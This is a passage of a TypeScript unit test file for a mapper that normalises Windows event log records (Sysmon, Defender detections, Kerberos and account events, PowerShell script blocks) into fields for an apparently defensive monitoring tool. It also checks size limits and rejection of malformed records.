  assert.deepEqual([badPort['source.ip'], badPort['source.port'], badPort['destination.port'], badPort['destination.ip']], [undefined, undefined, undefined, '10.0.0.1']);
  const noFile = mapped(sysmon(11, { ProcessId: 1, Image: 'C:\\x.exe' }));
  assert.equal(noFile['event.category'], 'log');
});

test('channels without a table, like Task Scheduler, become log/windows_event with the raw pairs', () => {
  const event = mapped(windows('Microsoft-Windows-TaskScheduler/Operational', 'Microsoft-Windows-TaskScheduler', 106, { TaskName: '\\Updater', UserContext: 'CORP\\alice' }));
  assert.deepEqual(event, { 'event.category': 'log', 'event.action': 'windows_event', 'event.type': 'info', 'event.provider': 'evtx', '@timestamp': '2026-04-01T10:00:00.5Z' });
});

test('Defender 1116: a detection stays a log record with the threat summary in message, the process, the user and the severity', () => {
  const defender = (eventId: number, data: Data) => windows('Microsoft-Windows-Windows Defender/Operational', 'Microsoft-Windows-Windows Defender', eventId, data);
  const event = mapped(
    defender(1116, {
      'Threat Name': 'HackTool:Win32/Mimikatz',
      'Severity Name': 'High',
      'Category Name': 'Tool',
      Path: 'file:_C:\\Users\\bob\\m.exe',
      'Process Name': 'C:\\Windows\\explorer.exe',
      'Detection User': 'CORP\\bob',
      'Action Name': 'Not Applicable',
    }),
  );
  assert.deepEqual(event, {
    'event.category': 'log',
    'event.action': 'windows_event',
    'event.type': 'info',
    'event.provider': 'evtx',
    message: 'Defender: HackTool:Win32/Mimikatz (High, Tool) in file:_C:\\Users\\bob\\m.exe',
    'log.level': 'High',
    'user.name': 'bob',
    'user.domain': 'CORP',
    'process.executable': 'C:\\Windows\\explorer.exe',
    'process.name': 'explorer.exe',
    '@timestamp': '2026-04-01T10:00:00.5Z',
  });
  const unknownProcess = mapped(defender(1117, { 'Threat Name': 'Virus:DOS/EICAR_Test_File', 'Process Name': 'Unknown', 'Action Name': 'Quarantine' }));
  assert.equal(unknownProcess['process.executable'], undefined, 'Defender\'s "Unknown" is no process');
  assert.equal(unknownProcess['message'], 'Defender: Virus:DOS/EICAR_Test_File; Quarantine');
  const disabled = mapped(defender(5001, {}));
  assert.equal(disabled['event.action'], 'windows_event');
});

test('Security 4771, 4743 and 4700: Kerberos pre-authentication failure, computer account deleted, scheduled task enabled', () => {
  const preauth = mapped(security(4771, { TargetUserName: 'alice', TargetSid: 'S-1-5-21-1-2-3-1104', ServiceName: 'krbtgt/CORP', TicketOptions: '0x40810010', Status: '0x18', PreAuthType: '2', IpAddress: '::ffff:10.0.0.5', IpPort: '50123' }, '0x8010000000000000'));
  assert.equal(preauth['event.action'], 'kerberos_ticket');
  assert.equal(preauth['event.outcome'], 'failure');
  assert.equal(preauth['logon.failure_reason'], 'pre-authentication failed (wrong password)');
  assert.equal(preauth['user.target.name'], 'alice');
  assert.equal(preauth['logon.method'], 'kerberos');
  const computer = mapped(security(4743, { TargetUserName: 'WS07$', TargetDomainName: 'CORP', TargetSid: 'S-1-5-21-1-2-3-2201', SubjectUserName: 'admin' }));
  assert.deepEqual([computer['event.category'], computer['event.action'], computer['user.target.name'], computer['user.name']], ['iam', 'user_deleted', 'WS07$', 'admin']);
  const task = mapped(security(4700, { TaskName: '\\Microsoft\\Updater', SubjectUserName: 'bob' }));
  assert.deepEqual([task['event.category'], task['event.action'], task['autostart.name'], task['autostart.location'], task['change.after']], ['autostart', 'modified', '\\Microsoft\\Updater', 'scheduled_task', 'enabled']);
});

test('event data beyond the schema limits is cut and tagged, never rejected', () => {
  const data: Data = { ScriptBlockText: 'A'.repeat(40000) };
  for (let i = 0; i < 600; i++) data[`Extra${i}`] = i;
  data['K'.repeat(300)] = 'long name';
  const event = mapWindowsEvent(windows('Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, data)) as unknown as Record<string, unknown>;
  const candidate = { ...event, 'event.id': '0f8fad5b-d9cb-469f-a165-70867728950e', 'event.sequence': 1, 'host.id': 'host-1' };
  assert.deepEqual(checkEvent(candidate, 'event').problems, []);
  assert.deepEqual(event['tags'], [EVENT_DATA_TRUNCATED_TAG]);
  assert.equal((event['script.text'] as string).length, 40000, 'the Vigil field keeps the whole text up to its own limit');
  const pairs = event['winlog.event_data'] as Record<string, unknown>;
  assert.equal(Object.keys(pairs).length, 512);
  assert.equal((pairs['ScriptBlockText'] as string).length, 32768);
});

test('records of the wrong shape or with an unusable time are VigilErrors', () => {
  const good = sysmon(1, { ProcessId: 1 });
  const broken: unknown[] = [
    null,
    { ...good, channel: 5 },
    { ...good, eventId: -1 },
    { ...good, eventId: 1.5 },
    { ...good, data: [] },
    { ...good, data: { a: { nested: true } } },
    { ...good, data: { a: Number.NaN } },
    { ...good, timeCreated: 'yesterday' },
    { ...good, timeCreated: '1969-12-31T23:59:59Z' },
  ];
  for (const record of broken) {
    assert.throws(() => mapWindowsEvent(record as WindowsEventRecord), (error: unknown) => error instanceof VigilError && error.code === 'invalid_input', JSON.stringify(record));
  }
});
